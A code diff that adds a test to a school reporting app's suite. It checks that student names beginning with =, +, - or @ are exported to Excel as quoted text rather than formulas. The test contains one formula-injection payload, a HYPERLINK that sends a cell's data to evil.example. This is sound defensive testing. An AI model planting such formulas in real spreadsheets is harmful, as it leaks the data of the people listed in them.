@@ -66,6 +66,34 @@ async def test_class_summary_as_excel(session: AsyncSession, world: World) -> No
     assert cells[0].number_format == "0.00"
 
 
+async def test_names_that_look_like_formulas_stay_text_in_excel(
+    session_factory: async_sessionmaker[AsyncSession], session: AsyncSession, world: World
+) -> None:
+    """A student's name (from an import, an OneRoster file) starting with =, +, - or @ is a
+    text cell with a quote prefix in the report's workbook, never a formula: openpyxl stores a
+    text starting with = as a formula, which Excel would run (a HYPERLINK leaking the row's
+    data, DDE)."""
+    from sqlalchemy import update
+
+    from db.models import Student
+
+    evil = {
+        world.school.student_id: '=HYPERLINK("http://evil.example/?"&B5,"Пётр")',
+        world.school.unlinked_student_id: "+7 (999) 000-00-00",
+    }
+    async with session_factory() as writer, writer.begin():
+        for student_id, name in evil.items():
+            await writer.execute(
+                update(Student).where(Student.id == student_id).values(full_name=name)
+            )
+    book = load_workbook(io.BytesIO(reports.render(await _summary(session, world), "xlsx", RU)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
+    assert {c.value for c in risky} >= {evil[world.school.student_id]}
+    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
+
+
 async def test_reports_as_pdf_with_cyrillic_and_a_repeated_header(
     session_factory: async_sessionmaker[AsyncSession], session: AsyncSession, world: World
 ) -> None:
